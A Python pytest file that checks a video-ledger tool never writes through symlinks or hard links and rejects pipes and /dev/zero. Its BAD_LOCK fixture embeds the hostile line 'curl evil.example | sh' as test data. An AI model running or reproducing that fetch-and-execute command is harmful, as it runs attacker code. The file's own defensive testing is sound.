"""A folder from elsewhere holds links, pipes and devices: nothing is read or written through them.

What a repository brings along may be called like one of our files and lead anywhere: to a shell's
start-up file, to a key, to a device without an end.
"""

from __future__ import annotations

import os
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from klingflow.errors import LedgerError, UsageError
from klingflow.ledger.files import facts
from klingflow.ledger.headers import lock_header
from klingflow.ledger.lines import journal_line, lock_line
from klingflow.ledger.places import LedgerPaths, ledger_paths
from klingflow.ledger.store import open_ledger, read
from klingflow.sandbox.book import Book
from tests.keeping import now
from tests.purchases import submitted

pytestmark = pytest.mark.skipif(
    sys.platform == "win32", reason="links, pipes and owners as POSIX has them"
)


@pytest.fixture
def paths(tmp_path: Path) -> LedgerPaths:
    folder = tmp_path / "film"
    folder.mkdir()
    return ledger_paths(folder / "film.yaml")


# What a lock's bad line says is whatever its author wished.
BAD_LOCK = lock_header("l", 1, 1) + lock_line(submitted("a")) + b'{"curl evil.example | sh\n'


@pytest.mark.parametrize(
    "name",
    [
        ".klingflow/film.journal",
        ".klingflow/film.reserve",
        ".klingflow/film.journal.damaged",
        "film.lock.damaged",
        ".klingflow/.film.lock.tmp",
        ".film.lock.tmp",
    ],
)
def test_no_file_of_the_ledger_is_written_through_a_link(
    paths: LedgerPaths, precious: Path, name: str
) -> None:
    """Neither emptied, nor filled with noise, nor given a line that somebody else thought of."""
    link = paths.lock.parent / name
    link.parent.mkdir(exist_ok=True)
    paths.lock.write_bytes(BAD_LOCK)
    if name != ".klingflow/film.journal":
        paths.journal.parent.mkdir(exist_ok=True)
        paths.journal.write_bytes(journal_line(submitted("b")) + b"damaged\n")
    link.symlink_to(precious)
    try:
        with open_ledger(paths, now):
            pass
    except LedgerError:
        pass
    assert precious.read_text() == "mine"


@pytest.mark.parametrize(
    "name",
    [
        ".klingflow/film.journal",
        ".klingflow/film.reserve",
        ".klingflow/film.journal.damaged",
        "film.lock.damaged",
        ".film.lock.tmp",
        "film.lock",
    ],
)
def test_no_other_name_of_a_file_is_written_to(
    paths: LedgerPaths, precious: Path, name: str
) -> None:
    """A hard link to another project's file: that file is neither emptied nor given a line."""
    precious.write_bytes(BAD_LOCK)
    link = paths.lock.parent / name
    link.parent.mkdir(exist_ok=True)
    if name != "film.lock":
        paths.lock.write_bytes(BAD_LOCK)
    if name != ".klingflow/film.journal":
        paths.journal.parent.mkdir(exist_ok=True)
        paths.journal.write_bytes(journal_line(submitted("b")) + b"damaged\n")
    link.hardlink_to(precious)
    try:
        with open_ledger(paths, now):
            pass
    except LedgerError:
        pass
    assert precious.read_bytes() == BAD_LOCK


def pipe(path: Path) -> None:
    if sys.platform == "win32":
        pytest.skip("as POSIX has it")
    os.mkfifo(path)


@pytest.mark.parametrize("name", ["film.lock", ".klingflow/film.journal", ".klingflow/film.folded"])
@pytest.mark.parametrize(
    "make", [pipe, lambda path: path.symlink_to("/dev/zero")], ids=["pipe", "zero"]
)
def test_a_ledger_without_an_end_is_an_error(
    paths: LedgerPaths, name: str, make: Callable[[Path], None]
) -> None:
    """A pipe that nobody writes to, or a device, neither holds us nor fills the memory."""
    path = paths.lock.parent / name
    path.parent.mkdir(exist_ok=True)
    make(path)
    for look in (lambda: read(paths), lambda: open_ledger(paths, now)):
        with pytest.raises(LedgerError):
            look()


def test_what_has_no_end_is_no_video(tmp_path: Path) -> None:
    """The ledger's word for it does not make it worth hashing."""
    if sys.platform == "win32":
        pytest.skip("as POSIX has it")
    (tmp_path / "a.mp4").symlink_to("/dev/zero")
    os.mkfifo(tmp_path / "b.mp4")
    assert facts(tmp_path, ["a.mp4", "b.mp4"], tmp_path / "cache") == {}


def test_the_sandboxs_book_is_not_written_through_a_link(tmp_path: Path, precious: Path) -> None:
    """It ends a torn line by cutting it off, and a file of one line looks like one."""
    (tmp_path / "server.jsonl").symlink_to(precious)
    with pytest.raises(UsageError):
        Book(str(tmp_path / "server.jsonl"))
    assert precious.read_text() == "mine"
